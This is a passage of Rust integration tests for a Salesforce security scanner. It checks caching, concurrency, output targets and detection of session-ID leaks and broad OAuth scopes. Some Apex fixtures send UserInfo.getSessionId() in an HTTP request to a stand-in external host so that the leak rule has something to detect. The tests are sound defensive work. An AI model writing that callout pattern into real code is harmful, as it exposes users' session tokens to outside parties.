            "--baseline",
            ".sfsec-baseline.json",
        ],
    );
    assert_eq!(o.status.code(), Some(0), "all known from the baseline: {}", stderr(&o));

    // An empty rule table, in either spelling.
    for (toml, at) in [
        ("select = [\"oauth\"]\n[rules.oauth-device-flow]\n", "sfsec.toml:2:8"),
        ("[rules]\noauth-device-flow = {}\n", "sfsec.toml:2:1"),
    ] {
        std::fs::write(p.path().join("sfsec.toml"), toml).expect("w");
        let o = sfsec(p.path(), &["check", "--no-cache"]);
        assert_eq!(o.status.code(), Some(2), "{toml}");
        assert!(
            stderr(&o).contains(at) && stderr(&o).contains("`[rules.oauth-device-flow]` sets nothing"),
            "{}",
            stderr(&o)
        );
    }
}

/// A copy of the partner corpus in a temporary folder (scans there may write a cache).
fn corpus_copy() -> tempfile::TempDir {
    fn copy(from: &Path, to: &Path) {
        std::fs::create_dir_all(to).expect("mkdir");
        for e in std::fs::read_dir(from).expect("dir").flatten() {
            let (src, dst) = (e.path(), to.join(e.file_name()));
            if src.is_dir() {
                copy(&src, &dst);
            } else {
                std::fs::copy(&src, &dst).expect("copy");
            }
        }
    }
    let dir = tempfile::tempdir().expect("temp");
    copy(
        &Path::new(env!("CARGO_MANIFEST_DIR")).join("corpus/partner-app"),
        dir.path(),
    );
    let _ = std::fs::remove_dir_all(dir.path().join(".sfsec_cache"));
    dir
}

/// What held before this work and must keep holding: one or two threads, unrelated files, a
/// cache against none, an edit that keeps the file's size and time, and eight scans of one
/// project at once all give the same report.
#[test]
fn results_do_not_depend_on_threads_unrelated_files_the_cache_or_concurrency() {
    let dir = corpus_copy();
    let home = tempfile::tempdir().expect("home");
    let h = home.path().to_str().expect("utf-8");
    let args = ["check", "--now", NOW, "--format", "json"];
    let run = |extra: &[&str], threads: &str| {
        let mut a: Vec<&str> = args.to_vec();
        a.extend(extra);
        run_within(
            dir.path(),
            &a,
            &[("RAYON_NUM_THREADS", threads), ("XDG_CACHE_HOME", h), ("HOME", h)],
            Duration::from_secs(120),
        )
    };
    let truth = run(&["--no-cache"], "2");
    assert_eq!(truth.status.code(), Some(1), "{}", stderr(&truth));
    assert_eq!(run(&["--no-cache"], "1").stdout, truth.stdout, "one thread");
    // Cached: written, then read.
    assert_eq!(run(&[], "2").stdout, truth.stdout);
    let cached = run(&[], "1");
    assert!(stderr(&cached).contains(CACHED));
    assert_eq!(cached.stdout, truth.stdout);

    // Unrelated files anywhere change nothing.
    for (rel, text) in [
        ("README.md", "# notes\n"),
        ("force-app/main/default/classes/notes.txt", "password = hunter2\n"),
        ("scripts/deploy.sh", "echo hi\n"),
    ] {
        let p = dir.path().join(rel);
        std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
        std::fs::write(p, text).expect("w");
    }
    assert_eq!(run(&["--no-cache"], "2").stdout, truth.stdout, "unrelated files");

    // An edit of the same size in the same second: the cache hashes content, not times.
    let app = dir
        .path()
        .join("force-app/main/default/connectedApps/Legacy_Reporting.connectedApp-meta.xml");
    let before = std::fs::read_to_string(&app).expect("app");
    let mtime = std::fs::metadata(&app).and_then(|m| m.modified()).expect("mtime");
    assert!(run(&[], "2").status.code() == Some(1));
    let edited = before.replace("<scopes>Full</scopes>", "<scopes>Api_</scopes>");
    assert_eq!(edited.len(), before.len());
    std::fs::write(&app, &edited).expect("w");
    std::fs::File::options()
        .append(true)
        .open(&app)
        .and_then(|f| f.set_modified(mtime))
        .expect("mtime");
    let after = run(&[], "2");
    assert!(!stderr(&after).contains(CACHED), "{}", stderr(&after));
    assert_eq!(after.stdout, run(&["--no-cache"], "2").stdout);
    assert_ne!(after.stdout, truth.stdout);
    std::fs::write(&app, &before).expect("w");

    // Eight scans at once, each with the cache, a few rounds: every report whole and the same.
    for _ in 0..3 {
        let outputs: Vec<Output> = std::thread::scope(|s| {
            let handles: Vec<_> = (0..8).map(|_| s.spawn(|| run(&[], "1"))).collect();
            handles.into_iter().map(|h| h.join().expect("scan")).collect()
        });
        for o in outputs {
            assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
            assert_eq!(o.stdout, truth.stdout);
        }
    }
}

/// `--output` onto a folder or into a missing one is an error that leaves nothing behind; onto
/// a FIFO it writes through to the reader.
#[test]
fn output_onto_folders_missing_folders_and_fifos() {
    let p = project(&[(
        "force-app/main/default/connectedApps/A.connectedApp-meta.xml",
        app("A", "    <oauthConfig><scopes>Full</scopes></oauthConfig>").as_bytes(),
    )]);
    std::fs::create_dir(p.path().join("out")).expect("mkdir");
    for target in ["out", "missing/out.json"] {
        let o = sfsec(p.path(), &["check", "--no-cache", "--now", NOW, "-o", target]);
        assert_eq!(o.status.code(), Some(2), "{target}: {}", stderr(&o));
        assert!(stderr(&o).contains(target), "{}", stderr(&o));
    }
    assert!(std::fs::read_dir(p.path().join("out")).expect("dir").next().is_none());
    assert!(!p.path().join("missing").exists());

    let fifo = p.path().join("pipe");
    assert!(Command::new("mkfifo").arg(&fifo).status().expect("mkfifo").success());
    let reader = {
        let fifo = fifo.clone();
        std::thread::spawn(move || std::fs::read(fifo).expect("read the FIFO"))
    };
    let o = sfsec(
        p.path(),
        &["check", "--no-cache", "--now", NOW, "--format", "json", "-o", "pipe"],
    );
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let got: serde_json::Value = serde_json::from_slice(&reader.join().expect("reader")).expect("json");
    assert!(got["findings"].as_array().is_some_and(|f| !f.is_empty()));
}

/// A commit that adds only a session source still shows the callout it reaches in an
/// unchanged class, a caller or a callee, as the full scan does.
#[test]
fn a_file_list_reports_the_flows_that_start_in_it() {
    let callout = "HttpRequest r = new HttpRequest(); r.setEndpoint('https://partner.example/t'); r.setBody(s); new Http().send(r);";
    let caller = format!("public class Caller {{ public static void go() {{ String s = Source.sid(); {callout} }} }}");
    let callee = format!("public class Out {{ public static void send(String s) {{ {callout} }} }}");
    let p = project(&[
        (
            "force-app/main/default/classes/Source.cls",
            b"public class Source { public static String sid() { return UserInfo.getSessionId(); } }",
        ),
        ("force-app/main/default/classes/Caller.cls", caller.as_bytes()),
        (
            "force-app/main/default/classes/Pusher.cls",
            b"public class Pusher { public static void go() { Out.send(UserInfo.getSessionId()); } }",
        ),
        ("force-app/main/default/classes/Out.cls", callee.as_bytes()),
    ]);
    let scan = |extra: &[&str]| {
        let mut a = vec![
            "check",
            "--no-cache",
            "--now",
            NOW,
            "--format",
            "json",
            "--select",
            "session-id-to-external",
        ];
        a.extend(extra);
        let o = sfsec(p.path(), &a);
        json_findings(&o).into_iter().map(|f| f.0).collect::<Vec<String>>()
    };
    let full = scan(&[]);
    assert_eq!(
        full,
        [
            "force-app/main/default/classes/Caller.cls",
            "force-app/main/default/classes/Out.cls"
        ]
    );
    assert_eq!(
        scan(&["force-app/main/default/classes/Source.cls"]),
        ["force-app/main/default/classes/Caller.cls"]
    );
    assert_eq!(
        scan(&["force-app/main/default/classes/Pusher.cls"]),
        ["force-app/main/default/classes/Out.cls"]
    );
    // An unrelated class given alone reports neither.
    std::fs::write(
        p.path().join("force-app/main/default/classes/Other.cls"),
        "public class Other { }",
    )
    .expect("w");
    assert!(scan(&["force-app/main/default/classes/Other.cls"]).is_empty());
}

/// A line break in a file name or a message cannot split a finding of the one-line formats.
#[test]
fn one_line_formats_keep_a_finding_on_one_line() {
    let p = project(&[(
        "force-app/main/default/connectedApps/Two\nLines.connectedApp-meta.xml",
        app("Two&#10;Lines", "    <oauthConfig><scopes>Full</scopes></oauthConfig>").as_bytes(),
    )]);
    for format in ["concise", "grouped"] {
        let o = sfsec(p.path(), &["check", "--no-cache", "--now", NOW, "--format", format]);
        assert_eq!(o.status.code(), Some(1), "{format}: {}", stderr(&o));
        let out = stdout(&o);
        let findings = out.split("\n\n").next().unwrap_or("");
        assert!(findings.contains("Two Lines"), "{format}: {out}");
        let lines: Vec<&str> = findings.lines().filter(|l| l.contains("oauth-broad-scope")).collect();
        assert_eq!(lines.len(), 1, "{format}: {out}");
        if format == "grouped" {
            assert!(
                findings.starts_with("force-app/main/default/connectedApps/Two Lines.connectedApp-meta.xml:\n"),
                "{out}"
            );
        }
        if format == "concise" {
            assert!(
                lines[0].starts_with("force-app/main/default/connectedApps/Two Lines.connectedApp-meta.xml:"),
                "{out}"
            );
        }
    }
}
